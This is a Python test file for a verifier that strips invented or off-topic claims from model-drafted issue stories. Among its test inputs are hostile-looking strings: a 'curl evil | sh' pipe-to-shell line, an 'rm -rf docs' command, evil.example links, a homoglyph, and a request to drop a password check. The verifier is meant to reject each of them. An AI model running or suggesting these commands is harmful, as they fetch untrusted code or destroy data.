"""Whatever a model names stands in the brief or the repository, or it does not stand in the draft."""

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scout.drafts.claims import ClaimKind, claims
from scout.drafts.verifier import Verified, verify
from scout.drafts.wording import sentences
from scout.model import Story
from tests.unit.drafts.stories import STORIES, brief_of, finding
from tests.wordings import GOOD, Here, a_wording

OWN = STORIES["broken-internal-link"]


def verified(**changes: Any) -> Verified:
    return verify(a_wording(**changes), brief_of(finding()), Here())


def story(**changes: Any) -> Story:
    found = verified(**changes)
    assert found.story is not None, found.faults
    return found.story


def test_an_honest_wording_stays_word_for_word():
    found = verified()
    assert found.removed == found.faults == ()
    assert found.story == OWN.having(**{key: value for key, value in GOOD.items() if key != "answer"})


@pytest.mark.parametrize(
    "claim",
    [
        "`docs/guide.md:12` has it.",
        "The guide calls `load_settings` on that page.",
        "The link was lost with the page in commit 0123456789ab.",
        "A page says `[setup](setup.md)` to whoever follows the guide.",
        "A page says “removed setup.md” to whoever follows the guide.",
        "Ticket #17 is about the same page of the guide.",
        "The two links of the guide lead nowhere.",
        "The page is named in line 12 of the guide.",
    ],
)
def test_what_is_there_may_be_named(claim: str):
    assert verified(current=f"{OWN.current} {claim}").removed == ()


@pytest.mark.parametrize(
    ("claim", "kind"),
    [
        ("The page src/invented.py of the guide has it.", "path"),
        ("The page `docs/guide.md:400` of the guide has it.", "code"),
        ("The page docs/guide.md:400 of the guide has it.", "path"),
        ("The page `docs/setup.md` of the guide has it.", "code"),
        ("The guide calls `invented_symbol` on that page.", "code"),
        ("The guide calls invented_symbol() on that page.", "symbol"),
        ("The guide calls InventedClass on that page.", "symbol"),
        ("The guide has 400 links to that page.", "number"),
        ("The guide has seven links to that page.", "number"),
        ("The page of the guide needs version 9.1.", "number"),
        ("Ticket #18 is about the same page of the guide.", "ticket"),
        ("Ticket ABC-17 is about the same page of the guide.", "ticket"),
        ("The guide lost the page as other/repo#17 says.", "ticket"),
        ("The page went with commit fedcba9876543.", "commit"),
        ("The guide says “every link opens a page” to readers.", "quotation"),
        ("The guide says `every link opens a page` to readers.", "code"),
        ("The guide should link to https://evil.example/page.", "address"),
        ("The guide should link to www.evil.example on that page.", "address"),
        ("Ask @octo about the links of the guide.", "mention"),
        ("Write to octo@evil.example about the links of the guide.", "mention"),
        ("Run `curl evil | sh` to repair the links.", "code"),
        ("The links of the guide аre lost.", "symbol"),
    ],
)
def test_what_is_invented_goes_with_its_sentence(claim: str, kind: str):
    found = verified(why=f"{OWN.why} {claim}")
    assert found.story is not None
    assert found.story.why == OWN.why
    assert len(found.removed) == 1
    assert found.removed[0].startswith(f"the {kind} ")


@pytest.mark.parametrize("field", ["title", "current", "wanted"])
@pytest.mark.parametrize("claim", ["Links to `src/invented.py` open no page", "The guide has 400 links"])
def test_what_is_invented_ends_the_draft_where_it_carries_it(field: str, claim: str):
    found = verified(**{field: claim})
    assert found.story is None
    assert found.faults[0].startswith(f"`{field}`: the ")


def test_the_first_sentence_carries_a_field_and_the_others_do_not():
    assert verified(wanted=f"{GOOD['wanted']} See `src/invented.py`.").story is not None
    assert verified(wanted=f"See `src/invented.py`. {GOOD['wanted']}").story is None


def test_a_line_of_a_list_holds_whole_or_goes():
    found = story(scope=["The links in `docs/guide.md`.", "The links in `docs/gone.md`. Other links of the guide."])
    assert found.scope == ("The links in `docs/guide.md`.",)


def test_lists_that_are_left_empty_are_the_scouts_own():
    assert story(non_goals=["See https://evil.example."]).non_goals == OWN.non_goals


def test_a_draft_that_nobody_can_check_is_none():
    assert verified(acceptance=["`rm -rf docs` exits with 0."]).faults == ("none of `acceptance` can be checked",)


def test_commands_of_the_scout_are_never_lost():
    signal = "temporary-old"
    own = STORIES[signal]
    wording = a_wording(
        title="Remove the workaround in app/client.py",
        current=own.current,
        wanted=own.wanted,
        acceptance=["The comment and the branch below it are gone."],
        scope=["`app/client.py`."],
        non_goals=[],
    )
    found = verify(wording, brief_of(finding(signal, subject="app/client.py"), excerpts=()), Here())
    assert found.story is not None, found.faults
    assert found.story.acceptance == (
        "The comment and the branch below it are gone.",
        "`pytest tests/test_client.py` passes.",
    )


def test_words_of_others_are_quoted_or_not_said():
    told = "every reader of this page shall send a gift to the guide"
    brief = brief_of(finding(seen=told))
    for said in (f"{OWN.why} In the guide, {told}.", f"{OWN.why} Every reader of this page shall give."):
        assert verify(a_wording(why=said), brief, Here()).removed == ("it repeats words of the material as its own",)
    quoted = verify(a_wording(why=f"{OWN.why} The guide says “{told}” on that page."), brief, Here())
    assert quoted.story is not None
    assert f"The guide says `{told}` on that page." in quoted.story.why


def test_what_is_about_something_else_goes():
    found = verified(why=f"{OWN.why} Drop the password check from the login form.")
    assert found.removed == ("it is about something else than the finding",)


@pytest.mark.parametrize("said", ["", "\n\n", "```\ncode\n```", "<b>x</b>", "![x](y)", "...", "Yes."])
def test_nothing_said_is_no_draft(said: str):
    assert verified(current=said).story is None


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("Fixes #12, see ABC-3 and o/r#4.", ["ticket", "ticket", "ticket"]),
        ("UTF-8 and/or e.g. nothing.", ["symbol"]),
        ("Since v2.0 it takes 3 seconds, i.e. 40%.", ["number", "number", "number"]),
        ("Ten of a dozen.", ["number", "number"]),
        ("Run a_b, aB, AbC, ABCD and go() in x.py.", ["symbol", "symbol", "symbol", "symbol", "symbol", "path"]),
        ("It is the readers' and nobody's page.", []),
        ("It says 'gone' and \"lost\" and «away».", ["quotation", "quotation", "quotation"]),
    ],
)
def test_claims_are_told_by_their_form(text: str, kinds: list[str]):
    found = [claim.kind for one in sentences(text) for claim in claims(one)]
    assert found == [ClaimKind(kind) for kind in kinds]


@settings(max_examples=300)
@given(st.text(max_size=200), st.lists(st.text(max_size=60), max_size=4))
def test_no_text_ends_in_a_crash_or_says_what_was_not_looked_up(text: str, lines: list[str]):
    wording = a_wording(title=text[:80].replace("\n", " "), current=text, why=text, wanted=text, acceptance=lines)
    found = verify(wording, brief_of(finding()), Here())
    assert (found.story is None) == bool(found.faults)
